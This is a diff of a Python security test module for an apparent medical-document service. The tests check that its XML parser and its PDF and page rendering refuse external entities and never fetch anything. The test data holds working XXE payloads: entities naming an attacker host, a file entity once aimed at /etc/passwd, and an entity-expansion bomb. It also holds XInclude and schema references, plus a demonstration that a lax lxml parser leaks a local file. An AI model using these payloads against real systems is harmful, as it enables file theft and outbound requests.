@@ -1,14 +1,18 @@
 """What comes from outside is shown, never run, and nothing that it names is ever fetched.
 
 A hook of the interpreter notes every look-up of a name and every connection while hostile documents, mails and file
-names go through the real reception and the real pages.
+names go through the real reception and the real pages, on the loop of the standard library, which the hook sees. For
+what is written in C, a bait listens and a file waits to be read.
 """
 
 import re
 from collections.abc import AsyncIterator, Iterator
 from html.parser import HTMLParser
+from pathlib import Path
 
+import httpx
 import pytest
+from lxml import etree
 
 from liane.codecs.pdf.copies import document_as_pdf
 from liane.codecs.xml import parse_xml
@@ -23,7 +27,7 @@ from liane_sandbox.emitter.examples.facts import ROOT_OID, ExampleFacts
 from liane_sandbox.emitter.scenario import SendingFacts, make_message
 from liane_sandbox.patients import PATIENTS
 from tests.security.house_kit import House, open_house
-from tests.security.leaving import watching
+from tests.security.leaving import Bait, baiting, watching
 from tests.web.filled_store import make_reception
 from tests.web.intake_kit import make_item
 
@@ -41,12 +45,43 @@ NARRATIVE = (
 FORBIDDEN_TAGS = frozenset({"iframe", "object", "embed", "base", "applet", "frame", "frameset", "portal"})
 
 
+@pytest.fixture(scope="session")
+def anyio_backend() -> tuple[str, dict[str, bool]]:
+    """The loop of the standard library, which the hook sees."""
+    return "asyncio", {"use_uvloop": False}
+
+
 @pytest.fixture(autouse=True)
-def nothing_leaves() -> Iterator[None]:
+def left() -> Iterator[list[str]]:
     """Note what leaves during a test; nothing may."""
     with watching() as seen:
-        yield
+        yield seen
         assert seen == []
+
+
+@pytest.fixture
+def bait() -> Iterator[Bait]:
+    """An address of this machine that nothing may call."""
+    with baiting() as listening:
+        yield listening
+        assert listening.touched == []
+
+
+async def test_what_would_leave_is_seen(left: list[str]) -> None:
+    """The guard of this module is awake: a call made from the loop of its tests is noted."""
+    async with httpx.AsyncClient(trust_env=False) as client:
+        with pytest.raises(httpx.ConnectError):
+            await client.get(f"https://{EVIL_HOST}/vol")
+    assert any(EVIL_HOST in one for one in left)
+    left.clear()
+
+
+async def test_what_would_touch_the_bait_is_seen(bait: Bait) -> None:
+    async with httpx.AsyncClient(trust_env=False) as client:
+        with pytest.raises(httpx.HTTPError):
+            await client.get(bait.address)
+    assert len(bait.touched) == 1
+    bait.touched.clear()
 
 
 @pytest.fixture
@@ -179,30 +214,67 @@ async def test_what_is_typed_in_a_search_is_shown_as_text(house: House) -> None:
         check_page(answer.text, path)
 
 
-@pytest.mark.parametrize(
-    "document",
-    [
-        f'<!DOCTYPE a SYSTEM "https://{EVIL_HOST}/a.dtd"><a/>',
-        f'<!DOCTYPE a [<!ENTITY e SYSTEM "https://{EVIL_HOST}/e">]><a>&e;</a>',
-        '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
-        f'<!DOCTYPE a [<!ENTITY % p SYSTEM "https://{EVIL_HOST}/p">%p;]><a/>',
-        '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>',
-    ],
+CANARY = "ce-fichier-ne-doit-pas-etre-lu"
+ENTITIES = (
+    '<!DOCTYPE a SYSTEM "{address}/a.dtd"><a/>',
+    '<!DOCTYPE a [<!ENTITY e SYSTEM "{address}/e">]><a>&e;</a>',
+    '<!DOCTYPE a [<!ENTITY e SYSTEM "{file}">]><a>&e;</a>',
+    '<!DOCTYPE a [<!ENTITY % p SYSTEM "{address}/p">%p;]><a/>',
+    '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>',
 )
-async def test_entities_are_refused(document: str) -> None:
-    with pytest.raises(InvalidInput):
-        parse_xml(document.encode())
 
 
-async def test_inclusions_and_schemas_that_a_document_names_are_not_followed() -> None:
-    include = '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="https://attaque.invalid/x"/></a>'
-    assert parse_xml(include.encode())[0].get("href") is not None
-    located = '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x https://attaque.invalid/s.xsd"/>'
-    assert parse_xml(located.encode()).tag == "a"
+@pytest.fixture
+def canary(tmp_path: Path) -> str:
+    """The address of a file of this machine that no document may read."""
+    path = tmp_path / "canari.txt"
+    path.write_text(CANARY, encoding="utf-8")
+    return path.as_uri()
 
 
-async def test_the_copy_of_a_document_fetches_nothing() -> None:
-    copy = document_as_pdf(hostile_cda(2))
+def test_a_parser_without_our_guards_reads_the_file(canary: str) -> None:
+    """These documents are truly hostile: a parser that obeys them brings the file."""
+    lax = etree.XMLParser(resolve_entities=True, load_dtd=True)
+    assert CANARY in (etree.fromstring(ENTITIES[2].format(address="", file=canary).encode(), lax).text or "")
+
+
+@pytest.mark.parametrize("document", ENTITIES)
+def test_entities_are_refused(document: str, bait: Bait, canary: str) -> None:
+    for dress in ("utf-8", "utf-16"):
+        with pytest.raises(InvalidInput) as refused:
+            parse_xml(document.format(address=bait.address, file=canary).encode(dress))
+        assert CANARY not in str(refused.value)
+
+
+def test_inclusions_and_schemas_that_a_document_names_are_not_followed(bait: Bait, canary: str) -> None:
+    for address in (bait.address, canary):
+        include = f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="{address}"/></a>'
+        read = parse_xml(include.encode())
+        assert read[0].get("href") == address
+        assert CANARY not in "".join(str(text) for text in read.itertext())
+        space = "http://www.w3.org/2001/XMLSchema-instance"
+        located = (
+            f'<a xmlns:xsi="{space}" xsi:schemaLocation="urn:x {address}" xsi:noNamespaceSchemaLocation="{address}"/>'
+        )
+        assert parse_xml(located.encode()).tag == "a"
+        sheet = f'<?xml-stylesheet type="text/xsl" href="{address}"?><a/>'
+        assert parse_xml(sheet.encode()).tag == "a"
+
+
+async def test_the_copy_of_a_document_fetches_nothing(bait: Bait) -> None:
+    text = hostile_cda(2).decode().replace(f"https://{EVIL_HOST}", bait.address)
+    assert bait.address in text
+    copy = document_as_pdf(text.encode())
     assert copy.data.startswith(b"%PDF")
     assert b"/URI" not in copy.data
     assert b"/JavaScript" not in copy.data
+
+
+async def test_a_document_that_names_the_bait_calls_nobody(house: House, bait: Bait) -> None:
+    """From the message to its pages: its narrative, its stylesheet, its pictures name an address that listens."""
+    text = hostile_cda(3).decode().replace(f"https://{EVIL_HOST}", bait.address)
+    sending = SendingFacts(control_id="MSG-BAIT", sent_at="20261122073000+0100", action=RequestAction.CREATE)
+    await make_reception(house.store, house.clock).accept(make_message(text.encode(), sending), "192.0.2.9")
+    number = (await house.store.search_documents(DocumentFilter(), limit=1)).lines[0].document.id
+    for path in ("", "/cda", "/cda?vue=source", "/message", "/verdict", "/pdf"):
+        assert (await house.get(f"/documents/{number}{path}", Role.INTEGRATION)).status_code == 200, path
